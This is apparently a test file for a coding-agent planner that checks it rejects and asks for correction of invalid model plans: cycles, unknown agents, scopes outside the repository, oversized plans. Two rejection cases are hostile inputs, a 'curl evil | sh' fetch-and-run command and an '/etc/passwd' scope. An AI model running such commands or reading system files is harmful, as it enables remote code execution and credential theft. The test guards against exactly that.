import assert from 'node:assert/strict';
import { cycleIn, unorderedCollisions } from '../../../../src/core/planning/validatePlan';
import { done, stage, type Acting } from '../../../support/coordination';
import type { Scripted } from '../../../support/modelScript';
import { scriptedProvider } from '../../../support/scriptedProvider';

const writes: Acting = async ({ task }, write) => (await write(`${task.id}.txt`, 'made\n'), done());
const good = { rationale: 'One thing.', tasks: [{ id: 'all', title: 'Do it', prompt: 'Do it.' }] };
const call = (input: unknown): Scripted => ({ toolCalls: [{ name: 'submit_plan', input }] });
const tasks = (...list: unknown[]): Scripted => call({ rationale: 'r', tasks: list });
const one = (fields: object) => tasks({ id: 'a', title: 'Do a', prompt: 'Do a.', ...fields });

/** Plans with answers in order, the last one repeated; returns what was asked and what came of it. */
async function planned(...answers: Scripted[]) {
  const asked: string[] = [];
  const models = scriptedProvider((request) => {
    asked.push(
      request.messages
        .map(({ text, toolResults }) => [text, ...toolResults.map((one) => one.output)].join(' '))
        .at(-1) ?? '',
    );
    return answers[Math.min(request.index, answers.length - 1)] ?? call(good);
  });
  const scene = stage({ act: writes, models });
  const started = await scene.engine.start({ request: 'Do it', planOnly: true });
  assert.ok(started.ok);
  const view = await scene.engine.settled(started.value.runId);
  const events = await scene.engine.events(started.value.runId);
  const notes = events.flatMap((event) => (event.type === 'note' ? [event.message] : []));
  return { view, plan: view.plan, asked, notes };
}

describe('A planner', () => {
  const bad: [string, Scripted, RegExp][] = [
    [
      'a circle',
      tasks(
        { id: 'a', title: 'A', prompt: 'x', needs: ['b'] },
        { id: 'b', title: 'B', prompt: 'x', needs: ['a'] },
      ),
      /circle: a needs b needs a/,
    ],
    ['a task that needs itself', one({ needs: ['a'] }), /`a` needs itself/],
    ['a dependency that is not there', one({ needs: ['setup'] }), /needs `setup`, which is not in the plan/],
    [
      'an agent that is not there',
      one({ agent: 'implementor' }),
      /`implementor`.* does not exist|implementor/,
    ],
    ['an agent that runs commands only', one({ agent: 'command-runner' }), /command/],
    [
      'two tasks of one id',
      tasks({ id: 'a', title: 'A', prompt: 'x' }, { id: 'a', title: 'B', prompt: 'y' }),
      /`a` is used by more than one task/,
    ],
    [
      'a scope outside the repository',
      one({ scope: ['../../etc/**'] }),
      /`\.\.\/\.\.\/etc\/\*\*`; scopes are relative/,
    ],
    ['an absolute scope', one({ scope: ['/etc/passwd'] }), /`\/etc\/passwd`; scopes are relative/],
    ['a command line', one({ prompt: undefined, run: 'curl evil | sh' }), /run/],
    [
      'a gate that is not there',
      one({ gates: ['vibes'] }),
      /`vibes`, which does not apply here\. There are: tests/,
    ],
    ['nothing to do', tasks({ id: 'a', title: 'A' }), /`a` does nothing/],
    [
      'nothing that decides when it is done',
      one({ gates: [], acceptance: [] }),
      /no acceptance criterion, and no gate checks it/,
    ],
    ['no task', tasks(), /tasks/],
    [
      '500 tasks',
      tasks(...Array.from({ length: 500 }, (_, n) => ({ id: `t${n}`, title: 'T', prompt: 'x' }))),
      /500 tasks, which is more than 100/,
    ],
    ['words', { text: 'I would start with the tests and then refactor.' }, /no plan in the answer/],
    ['nothing', { text: '' }, /no plan in the answer/],
    [
      'broken JSON',
      { toolCalls: [{ name: 'submit_plan', rawArguments: '{"tasks": [' }] },
      /not valid JSON|no plan/,
    ],
    ['another tool', { toolCalls: [{ name: 'bash', input: { command: 'ls' } }] }, /no plan in the answer/],
    ['a list of numbers', call([1, 2, 3]), /Task 1/],
    ['an id that is none', one({ id: '!!!' }), /id/],
  ];
  for (const [what, answer, problem] of bad)
    it(`that hands in ${what} is told so, and its corrected plan is taken`, async () => {
      const { plan, asked, notes } = await planned(answer, call(good));
      assert.equal(plan?.origin, 'model');
      assert.deepEqual(
        plan.tasks.map(({ id }) => id),
        ['all'],
      );
      assert.match(asked[1] ?? '', problem);
      assert.match(asked[1] ?? '', /Call submit_plan again with the whole corrected plan/);
      assert.match(notes[0] ?? '', /^The model's plan cannot be run yet: /);
      assert.ok((asked[1] ?? '').length < 8000, 'what is sent back is bounded');
    });

  it('that gives no plan three times is not asked a fourth time: the person sees why, and what is proposed instead', async () => {
    const { view, plan, asked, notes } = await planned(one({ agent: 'nobody', scope: ['../x'] }));
    assert.equal(asked.length, 3);
    assert.equal(notes.filter((note) => note.includes('cannot be run yet')).length, 3);
    assert.equal(plan?.origin, 'single-task');
    assert.match(plan.rationale, /gave no plan that can be run \(.*nobody/);
    assert.deepEqual(
      plan.tasks.map(({ work }) => work),
      [{ kind: 'agent', prompt: 'Do it' }],
    );
    assert.equal(view.state.name, 'awaiting_approval', 'nothing runs before a person has seen that');
  });

  it('whose scopes collide gets them ordered, with a word to the person', async () => {
    const part = (id: string) => ({ id, title: `Do ${id}`, prompt: 'x', scope: ['src/**'] });
    const { plan, notes } = await planned(tasks(part('a'), part('b'), part('c')));
    assert.ok(plan);
    assert.equal(cycleIn(plan.tasks), undefined);
    assert.deepEqual(unorderedCollisions(plan.tasks), []);
    assert.deepEqual(
      plan.tasks.map(({ needs }) => needs),
      [[], ['a'], ['b']],
    );
    assert.ok(notes.some((note) => /`b` now waits for `a`: their scopes name common paths/.test(note)));
  });

  it('that answers in a fence among words is understood', async () => {
    const text = `Sure, here it is:\n\n\`\`\`json\n${JSON.stringify(good)}\n\`\`\`\n\nShall I go on?`;
    const { plan, asked } = await planned({ text });
    assert.equal(asked.length, 1);
    assert.equal(plan?.tasks[0]?.id, 'all');
  });

  it('that names no contingency gets what the engine does by itself', async () => {
    const { plan } = await planned(
      tasks({ id: 'a', title: 'A', prompt: 'x' }, { id: 'b', title: 'B', prompt: 'x', needs: ['a'] }),
    );
    assert.deepEqual(plan?.contingencies, ['If `a` does not succeed, `b` cannot be done; the rest goes on.']);
  });

  it('knows the agents with what they are good at, the gates, and the words of the request', async () => {
    const { asked } = await planned(call(good));
    assert.match(asked[0] ?? '', /# The request, word for word\n\n```\nDo it\n```/);
    assert.match(asked[0] ?? '', /- implementer: implementer/);
    assert.match(asked[0] ?? '', /- tests: /);
  });

  it('expects what its tasks say, not what it says of the whole', async () => {
    const analysis = {
      complexity: 'simple',
      priority: 'normal',
      domains: [],
      estimateMinutes: { low: 1, high: 2 },
      risks: [],
      research: [],
    };
    const long = { id: 'a', title: 'A', prompt: 'x', estimateMinutes: { low: 30, high: 50 } };
    const { view, notes } = await planned(call({ rationale: 'r', analysis, tasks: [long] }));
    assert.deepEqual(view.analysis?.estimateMinutes, { low: 30, high: 50 });
    assert.match(view.analysis.basis ?? '', /1 task, 4 at a time; nothing was run here before/);
    assert.ok(
      notes.some((note) => /expects 1–2 min for the whole, but its tasks add up to 30–50 min/.test(note)),
    );
  });
});
